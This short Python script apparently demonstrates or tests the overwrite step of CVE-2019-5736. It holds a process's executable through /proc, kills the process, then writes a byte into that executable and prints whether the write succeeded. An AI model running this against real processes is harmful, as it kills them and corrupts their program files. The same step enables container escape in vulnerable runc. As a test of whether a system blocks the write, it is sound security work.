# SPDX-License-Identifier: GPL-2.0-or-later
# overwrite PID: what CVE-2019-5736 does: keep the program file of a process, end it, and write to the file; prints what came of it
import os, signal, sys, time
pid = int(sys.argv[1])
fd = os.open("/proc/%d/exe" % pid, os.O_PATH)
os.kill(pid, signal.SIGKILL)
while True:
    try:
        print("written: %d" % os.write(os.open("/proc/self/fd/%d" % fd, os.O_WRONLY), b"X"))
    except OSError as e:
        if e.errno == 26:  # ETXTBSY: it is about to end
            time.sleep(0.05)
            continue
        print(e.strerror)
    break
